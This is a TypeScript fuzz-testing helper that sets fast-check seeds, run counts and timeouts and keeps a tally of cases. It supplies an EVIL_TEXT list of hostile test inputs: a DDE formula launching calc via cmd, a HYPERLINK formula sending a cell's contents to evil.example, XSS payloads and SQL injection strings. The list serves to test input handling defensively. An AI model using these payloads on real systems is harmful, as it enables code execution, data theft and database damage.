/**
 * How much to fuzz. `npm test` runs a fixed-seed slice of every property (fast, same cases
 * every time); `npm run fuzz` sets PLANSIGHT_FUZZ=full and runs the full counts
 * (PLANSIGHT_FUZZ_SEED picks another seed; fast-check prints the seed and path of any failure).
 */
import type { Parameters } from 'fast-check';

export const FULL = process.env.PLANSIGHT_FUZZ === 'full';
export const SEED = Number(process.env.PLANSIGHT_FUZZ_SEED ?? 20_260_310);

/** A test's time limit: a slice must stay quick; the full run may take its time. */
export const TIMEOUT = FULL ? 3_600_000 : 60_000;

/** The fast-check parameters of a property: `slice` runs in npm test, `full` in npm run fuzz. */
export function fuzz<T>(slice: number, full: number): Parameters<T> {
  return { seed: SEED, numRuns: FULL ? full : slice, endOnFailure: true };
}

/** Cases run per property in this process, printed at the end by each file (the figures in docs/security.md). */
export const tally = new Map<string, number>();
export function count(name: string): void {
  tally.set(name, (tally.get(name) ?? 0) + 1);
}
export function record(name: string, n: number): void {
  tally.set(name, n);
}
export function printTally(file: string): void {
  const lines = [...tally].map(([name, n]) => `  ${name}: ${n}`);
  console.log(`[fuzz ${FULL ? 'full' : 'slice'} seed ${SEED}] ${file}\n${lines.join('\n')}`);
  tally.clear(); // the next engine's run of the same file counts from zero
}

/** Values that look like spreadsheet formulas or other injections, and other awkward text. */
export const EVIL_TEXT: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE observations; --",
  "1' OR '1'='1",
  '\u0000',
  '\uFEFF',
  '\uFFFD\uFFFD',
  '😀🏳️‍🌈',
  '海口市\u200b',
  '１２３',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x1F',
  '9'.repeat(400),
  '"',
  '""',
  ',',
  '\n',
  '\r\n',
  ' ',
  '',
];
